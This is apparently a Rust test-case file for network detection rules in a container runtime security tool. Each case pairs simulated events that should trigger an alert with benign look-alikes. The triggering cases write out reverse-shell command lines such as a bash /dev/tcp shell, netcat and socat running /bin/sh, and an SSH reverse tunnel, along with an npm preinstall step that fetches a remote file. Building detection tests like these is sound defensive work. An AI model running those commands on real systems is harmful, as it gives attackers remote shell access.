//! Cases for `70-network.yaml`.

use casebook_fixtures::flags::{AF_INET, SOCK_STREAM};

use crate::scene::{Case, case};

pub(crate) fn cases() -> Vec<Case> {
    vec![
        case(
            "Reverse shell in a command line",
            |s| {
                s.boxed("/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]);
                s.boxed("/usr/bin/python3", &["python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('sh')"]);
            },
            |s| {
                s.boxed("/bin/bash", &["bash", "-c", "until echo > /dev/tcp/db/5432; do sleep 1; done"]);
                s.boxed("/usr/bin/python3", &["python3", "-c", "import socket; print(socket.gethostname())"]);
            },
        ),
        case(
            "Netcat or socat runs a program for the network",
            |s| {
                s.boxed("/bin/nc", &["nc", "-lvp", "4444", "-e", "/bin/sh"]);
                s.host("/usr/bin/socat", &["socat", "TCP-LISTEN:4444", "EXEC:/bin/bash"]);
            },
            |s| {
                s.host("/bin/nc", &["nc", "-z", "db", "5432"]);
                s.host("/usr/bin/socat", &["socat", "TCP-LISTEN:80", "TCP:web:8080"]);
            },
        ),
        case(
            "Standard streams redirected to a network connection",
            |s| {
                let python = s.boxed("/usr/bin/python3", &["python3", "x.py"]);
                let connection = s.call(python, "203.0.113.9", 443);
                s.t.dup2(python, connection, 0);
            },
            |s| {
                let shell = s.t.fork(s.root);
                let out = s.t.create(shell, "/tmp/out");
                s.t.dup2(shell, out, 1);
                let connection = s.call(s.app, "203.0.113.9", 443);
                s.t.dup2(s.app, connection, 17);
            },
        ),
        case(
            "Connection made by a shell",
            |s| {
                s.call(s.inside, "203.0.113.9", 80);
            },
            |s| {
                let curl = s.host("/usr/bin/curl", &["curl", "https://deb.example"]);
                s.call(curl, "203.0.113.9", 443);
                s.t.connect_unix(s.root, "/run/nscd/socket");
            },
        ),
        case(
            "Network activity of a system program",
            |s| {
                let cat = s.host("/bin/cat", &["cat"]);
                s.call(cat, "203.0.113.9", 443);
            },
            |s| {
                let id = s.host("/usr/bin/id", &["id"]);
                s.call(id, "10.0.0.2", 389);
                s.call(s.app, "203.0.113.9", 443);
            },
        ),
        case(
            "API server contacted from a container by a tool",
            |s| {
                let curl = s.boxed("/usr/bin/curl", &["curl", "-k", "https://10.96.0.1/api"]);
                s.call(curl, "10.96.0.1", 443);
            },
            |s| {
                s.call(s.app, "10.96.0.1", 443);
                let kubectl = s.host("/usr/bin/kubectl", &["kubectl", "get", "nodes"]);
                s.call(kubectl, "10.96.0.1", 443);
            },
        ),
        case(
            "SSH connection on an unusual port",
            |s| {
                let ssh = s.user("/usr/bin/ssh", &["ssh", "-p", "443", "-R", "0:localhost:22", "x@203.0.113.9"]);
                s.call(ssh, "203.0.113.9", 443);
            },
            |s| {
                let ssh = s.user("/usr/bin/ssh", &["ssh", "203.0.113.9"]);
                s.call(ssh, "203.0.113.9", 22);
                s.call(ssh, "10.0.0.9", 443);
            },
        ),
        case(
            "Connection by a program in a temporary folder",
            |s| {
                let implant = s.host("/tmp/.x/agent", &["./agent"]);
                s.call(implant, "203.0.113.9", 443);
            },
            |s| {
                let test = s.host("/tmp/build/test", &["./test"]);
                s.call(test, "127.0.0.1", 8080);
                s.call(s.app, "203.0.113.9", 443);
            },
        ),
        case(
            "Unexpected outbound connection from a container",
            |s| {
                s.call(s.app, "203.0.113.9", 31337);
            },
            |s| {
                s.call(s.app, "203.0.113.9", 443);
                s.call(s.app, "10.1.2.3", 31337);
                let tool = s.host("/usr/bin/game", &["game"]);
                s.call(tool, "203.0.113.9", 31337);
            },
        ),
        case(
            "Unexpected listening port",
            |s| {
                let nc = s.boxed("/bin/nc", &["nc", "-l", "9001"]);
                s.wait_on(nc, 9001);
                let server = s.host("/usr/bin/python3", &["python3", "-m", "http.server"]);
                s.wait_on(server, 8000);
            },
            |s| {
                s.wait_on(s.app, 8080);
                let server = s.host("/usr/bin/python3", &["python3", "/srv/app.py"]);
                s.wait_on(server, 5000);
                s.t.socket(s.root, AF_INET, SOCK_STREAM, 0);
            },
        ),
        case(
            "Packet socket opened in a container",
            |s| {
                let sniffer = s.boxed("/opt/sniff", &["sniff"]);
                s.t.packet_socket(sniffer);
            },
            |s| {
                s.t.socket(s.app, AF_INET, SOCK_STREAM, 0);
                let dhcp = s.host("/sbin/dhclient", &["dhclient"]);
                s.t.packet_socket(dhcp);
            },
        ),
        case(
            "Network tool run during a package installation",
            |s| {
                let npm = s.boxed("/usr/bin/npm", &["npm", "install"]);
                let script = s.t.spawn(npm, "/bin/sh", &["sh", "-c", "node preinstall.js"]);
                s.t.spawn(script, "/usr/bin/curl", &["curl", "-s", "http://203.0.113.9/x"]);
            },
            |s| {
                let npm = s.boxed("/usr/bin/npm", &["npm", "install"]);
                s.t.spawn(npm, "/usr/bin/node", &["node", "build.js"]);
                s.boxed("/usr/bin/curl", &["curl", "https://example.org"]);
            },
        ),
    ]
}
